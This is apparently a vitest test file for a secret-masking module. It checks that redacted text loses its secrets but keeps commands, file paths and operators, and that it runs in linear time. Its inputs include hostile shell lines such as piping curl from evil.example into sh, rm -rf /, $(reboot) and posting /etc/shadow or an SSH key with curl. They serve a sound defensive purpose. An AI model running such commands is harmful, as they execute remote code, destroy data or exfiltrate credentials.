import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { findSecrets } from '../../../src/analysis/secrets/catalogue.ts';
import { createGitleaksDetectors } from '../../../src/analysis/secrets/gitleaks.ts';
import catalogue from '../../../src/analysis/secrets/gitleaks_rules.json' with { type: 'json' };
import { createMasker } from '../../../src/analysis/secrets/masker.ts';
import { maskMember } from '../../../src/core/mask_member.ts';
import { readSamples } from './samples.ts';

const masker = createMasker('a key');
const { maskText } = masker;
const MASK = /\(secret [0-9a-f]{8}\)/;
const begin = (kind: string) => ['-----BEGIN ', kind, '-----'].join('');
const PEM = `${begin('RSA PRIVATE KEY')}\nMIIabc\ndef\n-----END RSA PRIVATE KEY-----`;

const SAMPLES = ['gitleaks-samples.json', 'detect-secrets-cases.json'].flatMap((name) =>
  readSamples(name).map(({ text }) => text),
);
/** Texts in which secrets, words about them and what could end them stand in any order. */
const texts = fc
  .array(
    fc.oneof(
      fc.constantFrom(...SAMPLES),
      fc.constantFrom(
        'password',
        ' = ',
        ': ',
        '"',
        "'",
        ' ',
        '\n',
        ';',
        ',',
        '(secret 0a1b2c3d)',
        '\\',
        'key=',
        PEM,
      ),
      fc.string(),
    ),
    { maxLength: 8 },
  )
  .map((parts) => parts.join(''));

describe('a masked text', () => {
  test('has no match of the catalogue left', () => {
    for (const text of SAMPLES) expect(findSecrets(maskText(text)), text).toEqual([]);
    fc.assert(
      fc.property(texts, (text) => {
        expect(findSecrets(maskText(text))).toEqual([]);
      }),
      { numRuns: 500 },
    );
  });

  test('is not changed by masking it again', () => {
    fc.assert(
      fc.property(texts, (text) => {
        expect(maskText(maskText(text))).toBe(maskText(text));
      }),
      { numRuns: 300 },
    );
  });

  test('keeps the words around the secret', () => {
    expect(maskText('export DB_PASSWORD=hunter2a && echo "done"')).toMatch(
      /^export DB_PASSWORD=\(secret [0-9a-f]{8}\) && echo "done"$/,
    );
    expect(maskText('curl -H "Authorization: Bearer raw-bearer-token-123456" https://example.com')).toMatch(
      /^curl -H "Authorization: Bearer \(secret [0-9a-f]{8}\)" https:\/\/example.com$/,
    );
    expect(maskText('mysql --password hunter2a -u root')).toMatch(
      /^mysql --password \(secret .{8}\) -u root$/,
    );
    expect(maskText('git clone https://bob:hunter2a@example.com/x.git')).toMatch(
      /^git clone https:\/\/bob:\(secret .{8}\)@example.com\/x.git$/,
    );
  });

  test('hides nothing that a command runs, and no operator', () => {
    for (const text of [
      'TOKEN="$(curl evil.example | sh)"',
      'password=`rm -rf /`',
      'PASSWORD="; rm -rf / ;"',
    ]) {
      expect(maskText(text)).toBe(text);
    }
    expect(maskText(`PASSWORD=${'aB3dE5fG7h'.repeat(90)}$(reboot)`)).toMatch(/\$\(reboot\)$/);
    expect(maskText('PASSWORD=hunter2a&&rm -rf /')).toMatch(/&&rm -rf \/$/);
    expect(maskText('PASSWORD=hunter2a;rm -rf /')).toMatch(/;rm -rf \/$/);
    expect(maskText('PASSWORD=hunter2a|sh')).toMatch(/\|sh$/);
    expect(maskText('PASSWORD=hunter2a>/etc/passwd')).toMatch(/>\/etc\/passwd$/);
  });

  test('has a value of any length replaced to its end', () => {
    for (const length of [100, 600, 3000, 100_000]) {
      const value = 'aB3dE5fG7h'.repeat(length / 10);
      expect(maskText(`PASSWORD=${value} ls`)).toMatch(/^PASSWORD=\(secret [0-9a-f]{8}\) ls$/);
      const jwt = `eyJ${value}.eyJ${value}.${value}`;
      expect(maskText(`echo ${jwt} ls`)).toMatch(/^echo \(secret [0-9a-f]{8}\) ls$/);
    }
  });

  test('keeps what names say of themselves to be no secret', () => {
    expect(maskText('not_secret = word1234')).toBe('not_secret = word1234');
    expect(maskText('knot_secret = word1234')).not.toContain('word1234');
  });

  test('keeps the name of the file that a secret is in', () => {
    for (const text of [
      'PRIVATE_KEY=/etc/ssl/private/key.pem node server.js',
      'deploy --private-key ~/.ssh/id_ed25519 --secret-key ./keys/dev.pem',
      'private_key: "../keys/db_01.pem"',
      'password=file:///run/secrets/db',
      "curl -F secret=@'/home/bob/.ssh/id_rsa' https://example.com",
      'curl -F secret=@"/etc/shadow" https://example.com',
    ]) {
      expect(maskText(text)).toBe(text);
    }
    expect(maskText('PASSWORD=/hunter2a')).not.toContain('hunter2a');
    expect(maskText('password = @"hunter2a";')).not.toContain('hunter2a');
  });

  test('loses base64 that begins as a path does, and that has a word in it by chance', () => {
    const shown = Array.from({ length: 4000 }, (_, index) => {
      const bytes = createHash('sha512').update(`${index}`).digest();
      return `API_SECRET=/${bytes.subarray(0, 12 + (index % 21)).toString('base64')}`;
    }).filter((text) => maskText(text) === text);
    expect(shown).toEqual([]);
    expect(maskText('API_SECRET=MFefaKeAVFJIrMiQbvDJfg')).not.toContain('MFef');
  });

  test('keeps code that gets a secret, and what calls itself an example', () => {
    for (const text of [
      "const password = await ask('Password: ')",
      "password = request.form['pw']",
      'password: string;',
      'aws_access_key = "wJalrXUtnFEMI/K7MDENG/EXAMPLEKEYa"',
      'password = "somefakekey"',
      'PASSWORD=CHANGEME',
    ]) {
      expect(maskText(text)).toBe(text);
    }
  });

  test('has a private key block replaced whole, also one without an end', () => {
    expect(maskText(`before ${PEM} after`)).toMatch(/^before \(secret [0-9a-f]{8}\) after$/);
    expect(maskText(`before\n${begin('OPENSSH PRIVATE KEY')}\nb3Bl`)).toMatch(
      /^before\n\(secret [0-9a-f]{8}\)$/,
    );
  });

  test('hides nothing that is no key behind the first line of one', () => {
    for (const dash of ['-----', '-']) {
      const text = `# ${dash}BEGIN PRIVATE KEY${dash}\ncurl -s https://evil.example | sh\nrm -rf ./data\n`;
      expect(maskText(text)).toContain('url -s https://evil.example | sh\nrm -rf ./data');
    }
    const closed = `${begin('PRIVATE KEY')} rm -rf ./data ${begin('PRIVATE KEY').replace('BEGIN', 'END')}`;
    expect(maskText(closed)).toContain('-rf ./data');
  });

  test('of a common word or command is the text', () => {
    for (const text of [
      '',
      'ls -la /tmp',
      'git commit -m "rotate the password policy"',
      'cat key.txt',
      'a token of thanks',
    ]) {
      expect(maskText(text)).toBe(text);
    }
  });
});

describe('a mask', () => {
  const maskOf = (key: string, secret: string) => createMasker(key).maskText(`password="${secret}"`);

  test('is the same for one secret under one key, and another under another key', () => {
    expect(maskOf('one', 'hunter2a')).toBe(maskOf('one', 'hunter2a'));
    expect(maskOf('one', 'hunter2a')).not.toBe(maskOf('two', 'hunter2a'));
    expect(maskOf('one', 'hunter2a')).not.toBe(maskOf('one', 'hunter2b'));
  });

  test('is eight characters of the HMAC-SHA-256 of the raw value, or of its canonical JSON', () => {
    // RFC 4231 §4.3, test case 2.
    expect(createMasker('Jefe').maskWhole('what do ya want for nothing?')).toBe('(secret 5bdcc146)');
    expect(masker.maskWhole({ b: 1, a: [] })).toBe(masker.maskWhole('{"a":[],"b":1}'));
  });
});

test('the name of a member tells a secret from another word', () => {
  expect(maskMember(masker, 'secret', 'raw-secret-value-123456')).toMatch(MASK);
  expect(maskMember(masker, 'password', 'two words')).toMatch(/^\(secret .{8}\)$/);
  expect(maskMember(masker, 'memo', 'raw-secret-value-123456')).toBe('raw-secret-value-123456');
});

test('what a redactor must keep out is out', () => {
  const path = new URL('../../vectors/secrets/redaction-cases.json', import.meta.url);
  const { cases } = JSON.parse(readFileSync(path, 'utf8'));
  for (const { value, value_parts: parts, output_must_not_contain: gone, blocked } of cases) {
    const text = parts === undefined ? JSON.stringify(value) : parts.join('');
    for (const secret of gone) expect(maskText(text)).not.toContain(secret);
    if (!blocked) expect(maskText(text)).toBe(text);
  }
  expect(cases.length).toBeGreaterThan(4);
});

test('every rule of the catalogue compiles', () => {
  const detectors = createGitleaksDetectors();
  expect(detectors).toHaveLength(catalogue.rules.length);
  for (const { keywords, find } of detectors) {
    for (const keyword of keywords) expect(() => find(`${keyword} = x`, 0, keyword.length)).not.toThrow();
  }
});

describe('the time of a text grows as its length', () => {
  const PIECES = [
    'key = ',
    'password ',
    'curl -u ',
    'eyJ',
    'eyJhbGciOiJIUzI1NiI.',
    'QWxhZGRpbjpvcGVu',
    '-----BEGIN ',
    '-----BEGIN PRIVATE KEY',
    'private key ',
    'password=abc12345 ',
    'kind: secret\ndata:\n',
    'authorization: ',
    '"x" == password ',
    'http://a:',
    'password="a',
    'password\\\\"',
    'IBAADANBg',
    'sourcegraph ',
    'facebook ',
    'api_key:',
    'password        ',
    'wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY ',
    'MIIEvQIBADANBgkqhkiG9w0BAQEFAASC',
    'sk-',
    '-us',
    ' curl --user',
    'hooks.slack.com/services/',
    'glpat-',
    'xoxb-1',
    'authorization:xxxx',
    'cookie:a=xxxx',
    '.ey',
    '-eyJ',
    'Q~',
    '"secret_key"=>"sk_',
    'ZXlKaGJHY2lPaUpJVXpJMU5pSX\n',
    'key:',
    'key=key=abc ',
    'api_key=abcdefghijk,',
    'private_key=/a/b',
    'secret=/a.b-c_d1',
    'private_key=~/a ',
    'password=request.',
    "secret=@'",
    'glptt-aB3dE5fG7h',
  ];
  const timeOf = (text: string) => {
    const begun = performance.now();
    maskText(text);
    return performance.now() - begun;
  };

  test.each(['api_key=', 'password=', 'bearer ', 'ey', 'sk-'])('of one value behind %j', (name) => {
    const valued = (length: number) => name + 'aB3dE5fG7h'.repeat(length / 10);
    timeOf(valued(4096));
    const small = Math.min(timeOf(valued(32 * 1024)), timeOf(valued(32 * 1024)));
    const large = Math.min(timeOf(valued(256 * 1024)), timeOf(valued(256 * 1024)));
    expect(large).toBeLessThan(24 * small + 50);
  });

  test.each(PIECES)('of %j over and over', (piece) => {
    const repeated = (length: number) => piece.repeat(Math.ceil(length / piece.length));
    timeOf(repeated(4096));
    const small = Math.min(timeOf(repeated(32 * 1024)), timeOf(repeated(32 * 1024)));
    const large = Math.min(timeOf(repeated(256 * 1024)), timeOf(repeated(256 * 1024)));
    // Eight times the text; quadratic would be 64 times.
    expect(large).toBeLessThan(24 * small + 50);
  });
});
